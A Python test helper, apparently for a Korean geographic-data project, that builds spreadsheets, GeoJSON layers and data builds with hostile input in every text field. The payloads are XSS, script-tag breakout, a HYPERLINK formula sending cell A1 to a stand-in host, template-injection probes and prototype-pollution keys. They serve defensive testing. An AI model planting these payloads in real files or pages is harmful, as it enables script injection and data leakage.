"""A programme and a file whose every field is made to do harm."""

import json
import re
import shutil

import openpyxl

from geo.own.registry import prepare, register
from geo.own.sheets import COLUMNS
from geo.own.template import template
from geo.store.manifest import MANIFEST, Manifest

RUNS = "<img src=x onerror=window.hit=1>"
TEXTS = (
    f"\"'>{RUNS}",
    "</script><script>window.hit=1</script>",
    '=HYPERLINK("http://a.example/?"&A1)',
    "{{7*7}}${7*7}#{7*7}{0.__class__}",
    "__proto__",
    "\u202e가나다\u2066",
)
NAME = f"등줄기 {RUNS}"
PLACES = (("본부", "전남", "여수국가"), ("지부", "경남", "창원국가"))


def ill(folder):
    """Make both below `folder`; return where programmes are registered, the files, the id."""
    book = folder / "own.xlsx"
    book.write_bytes(template("ko", ("전남", "경남")))
    made = openpyxl.load_workbook(book)
    programme, bodies, members = made.worksheets[1:]
    filled = {"name": NAME, "name_en": TEXTS[1], "rule": "중심에서 나머지로", "root_role": "본부"}
    for row, column in enumerate(COLUMNS["programme"], 2):
        programme.cell(row, 2).value = filled.get(column.id)
    for sheet in (bodies, members):
        sheet.delete_rows(2, sheet.max_row)
    for text in TEXTS:
        for place in PLACES:
            members.append([text, *place])
            members.cell(members.max_row, 1).data_type = "s"
    made.save(book)
    (folder / "made").mkdir()
    prepared, _ = prepare((book,), "", folder / "made")
    registered = register(prepared, folder / "own")
    names = (*TEXTS, "constructor", "toString", "hasOwnProperty", "length")
    feature = {
        "type": "Feature",
        "id": "__proto__",
        "geometry": {"type": "Point", "coordinates": [128.0, 36.0]},
        "properties": {name: TEXTS[n % len(TEXTS)] for n, name in enumerate(names)},
    }
    layer = folder / "constructor.geojson"
    layer.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}), "utf-8")
    named = folder / f"{RUNS}.geojson"
    named.write_bytes(layer.read_bytes())
    return folder / "own", (layer, named), registered.name


WORDS = re.compile(r"(^|_)(ko|en|printed|written|locator|detail|note|value_[ab]|used)$")
"""Fields of words, by their name; what others hold has a blank if it is words, as no id has."""
KEYS = re.compile(r"^(sido|sigungu|region|district|legal_dong|zon|short|sector|subsector|dash)")
"""Fields of names that lead to others: without them nothing would be found, nor shown."""


def ill_build(data, folder):
    """Copy a built folder, with harm in every field of words of every table, sealed as a build."""
    made = folder / "data"
    shutil.copytree(data, made)
    for file in Manifest.read((made / MANIFEST).read_bytes()).built:
        path = made / file
        if path.stem in {"regions", "districts"}:
            continue
        lines = path.read_text("utf-8").split("\n") if path.suffix == ".geojson" else []
        if lines:
            # Collections have a line for each feature, and the words of their head before.
            body = "\n".join(map(_ill_line, lines))
        else:
            plain = _ill(json.loads(path.read_text("utf-8")))
            body = json.dumps(plain, ensure_ascii=False, separators=(",", ":")) + "\n"
        path.write_text(body, "utf-8")
    files = {
        one: (made / one).read_bytes()
        for one in Manifest.read((made / MANIFEST).read_bytes()).built
    }
    (made / MANIFEST).write_bytes(Manifest.of(made, files).to_bytes())
    return made


def _ill_line(line):
    bare = line.removesuffix(",")
    if not bare.startswith('{"type":"Feature",'):
        return line
    made = json.dumps(_ill(json.loads(bare)), ensure_ascii=False, separators=(",", ":"))
    return made + line[len(bare) :]


def _ill(value, name=""):
    if isinstance(value, dict):
        return {key: one if KEYS.search(key) else _ill(one, key) for key, one in value.items()}
    if isinstance(value, list):
        return [_ill(one, name) for one in value]
    words = isinstance(value, str) and (WORDS.search(name) or " " in value)
    return f"{value} {RUNS}" if words else value
